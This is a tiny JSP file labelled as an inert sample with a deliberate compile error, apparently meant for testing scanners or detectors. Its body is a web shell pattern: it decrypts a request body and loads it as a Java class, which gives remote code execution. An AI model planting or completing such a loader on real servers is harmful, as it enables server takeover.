<% shodo inert sample: deliberate compile error, this page never runs %>
<% class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } }
javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");
byte[] d = java.util.Base64.getDecoder().decode(request.getReader().readLine());
new U().g(c.doFinal(d)).newInstance(); %>
